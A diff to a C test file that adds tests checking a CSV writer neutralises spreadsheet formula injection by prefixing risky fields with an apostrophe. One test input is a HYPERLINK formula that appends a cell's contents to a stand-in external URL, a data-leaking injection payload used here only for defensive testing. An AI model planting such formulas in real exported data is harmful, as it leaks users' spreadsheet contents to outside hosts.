@@ -56,6 +56,30 @@ test_japanese_untouched (void)
   g_assert_cmpstr (KANRI_CSV_UTF8_BOM, ==, "\xEF\xBB\xBF");
 }
 
+static void
+test_formula_guarded (void)
+{
+  const char *fields[] = {
+    "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1)",
+    "\tTab", "\rCR",
+  };
+  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));
+
+  g_assert_cmpstr (line, ==,
+                   "\"'=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"x\"\")\","
+                   "\"'+1+2\",\"'-2+3\",\"'@SUM(A1)\",\"'\tTab\",\"'\rCR\"\r\n");
+}
+
+static void
+test_numbers_stay_numbers (void)
+{
+  const char *fields[] = { "-1", "+5", "-0.25", "user@contoso.com", "a=b", "-", "-.5" };
+  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));
+
+  /* "-" alone and "-.5" are not the plain numbers this writer knows: guarded. */
+  g_assert_cmpstr (line, ==, "-1,+5,-0.25,user@contoso.com,a=b,\"'-\",\"'-.5\"\r\n");
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -66,6 +90,8 @@ main (int   argc,
   g_test_add_func ("/csv/quotes-and-breaks", test_quotes_and_breaks);
   g_test_add_func ("/csv/empty-and-null", test_empty_and_null);
   g_test_add_func ("/csv/japanese", test_japanese_untouched);
+  g_test_add_func ("/csv/formula-guarded", test_formula_guarded);
+  g_test_add_func ("/csv/numbers-stay-numbers", test_numbers_stay_numbers);
 
   return g_test_run ();
 }
